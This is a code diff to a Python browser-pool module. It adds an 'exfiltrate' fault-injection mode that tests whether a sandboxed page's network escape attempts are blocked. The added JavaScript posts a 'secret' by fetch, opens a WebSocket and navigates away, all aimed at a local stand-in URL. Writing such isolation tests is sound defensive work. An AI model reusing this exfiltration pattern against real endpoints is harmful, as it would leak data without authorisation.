@@ -42,6 +42,7 @@ from actors.constants import (
 )
 from actors.errors import BrowserFailure, FailureCategory, InputError
 from actors.page_server import PageServer
+from actors.validation import show
 
 log = logging.getLogger(__name__)
 
@@ -130,6 +131,7 @@ class BrowserCore:
         """A new Chromium process with a fresh profile, connected, with the runtime page open."""
         assert self.exe is not None and self.temp_dir is not None
         self.generation += 1
+        self.blocked_requests = []       # counted per browser process (a BrowserLaunched starts afresh)
         self.proc, self.port = await chromium.launch(self.exe, self.temp_dir / f"profile-{self.generation}")
         await self._connect()
         await self._open_page()
@@ -385,6 +387,7 @@ class BrowserCore:
             "memory_bytes": memory,
             "memory_limit_bytes": self.memory_limit_bytes,
             "blocked_requests": len(self.blocked_requests),
+            "blocked_urls": self.blocked_requests[-BLOCKED_URLS_REPORTED:],
             "temp_dir": str(self.temp_dir),
         }
 
@@ -410,16 +413,36 @@ class BrowserCore:
 
 
 FAULTS = ("crash_page", "kill_renderer", "kill_browser", "kill_gpu", "hang", "disconnect", "exhaust_memory",
-          "corrupt_output")
+          "corrupt_output", "exfiltrate")
+BLOCKED_URLS_REPORTED = 10      # the latest blocked URLs a health report carries
+
+# What hostile model code would try: send data out by fetch, open a WebSocket, navigate away. ``url`` is
+# an argument, never part of the source.
+_EXFILTRATE_JS = """async (url) => {
+    const out = {};
+    try { await fetch(url, {method: "POST", body: "secret"}); out.fetch = "reached"; }
+    catch (e) { out.fetch = "blocked"; }
+    out.websocket = await new Promise((resolve) => {
+        let ws;
+        try { ws = new WebSocket(url.replace(/^http/, "ws")); } catch (e) { resolve("refused"); return; }
+        ws.onopen = () => resolve("open");
+        ws.onclose = (e) => resolve("closed " + e.code);
+        ws.onerror = () => resolve("error");
+    });
+    setTimeout(() => { location.href = url; }, 0);
+    return out;
+}"""
 
 
-async def inject_fault(core: BrowserCore, kind: str, mb: int = 256) -> dict[str, Any]:
+async def inject_fault(core: BrowserCore, kind: str, mb: int = 256,
+                       url: str = "http://127.0.0.1:9/exfiltrate") -> dict[str, Any]:
     """Make a real fault happen in ``core``'s browser (for tests, benchmarks and the CLI).
 
     crash_page: CDP Page.crash; kill_renderer / kill_browser / kill_gpu: SIGKILL of that process;
     hang: ``while(true){}`` in the page; disconnect: drop the CDP connection (the browser lives on);
     exhaust_memory: the page allocates and touches ``mb`` MiB beyond the browser's memory ceiling;
-    corrupt_output: the page returns wrong numbers from then on (a dissenter for voting).
+    corrupt_output: the page returns wrong numbers from then on (a dissenter for voting);
+    exfiltrate: the page tries to send data to ``url`` by fetch, WebSocket and navigation (all blocked).
     """
     if kind not in FAULTS:
         raise InputError("kind", f"unknown fault {kind!r}; one of {', '.join(FAULTS)}")
@@ -448,6 +471,11 @@ async def inject_fault(core: BrowserCore, kind: str, mb: int = 256) -> dict[str,
             return {"fault": kind, "browser_id": core.browser_id, "effect": str(exc).splitlines()[0]}
     elif kind == "corrupt_output":
         await core.page.evaluate("() => window.webpool.setCorrupt(true)")
+    elif kind == "exfiltrate":
+        if not isinstance(url, str) or not url.startswith(("http://", "https://")):
+            raise InputError("url", f"must be an http(s) URL, got {show(url)}")
+        attempts = await core.page.evaluate(_EXFILTRATE_JS, url)
+        return {"fault": kind, "browser_id": core.browser_id, "attempts": attempts}
     elif kind == "disconnect":
         core._closing = True      # our own disconnect is not a failure signal...
         await core.browser.close()
@@ -490,5 +518,5 @@ class BrowserActor(BrowserCore):
     async def ping(self) -> str:
         return self.browser_id
 
-    async def inject_fault(self, kind: str, mb: int = 256) -> dict[str, Any]:
-        return await inject_fault(self, kind, mb)
+    async def inject_fault(self, kind: str, **options: Any) -> dict[str, Any]:
+        return await inject_fault(self, kind, **options)
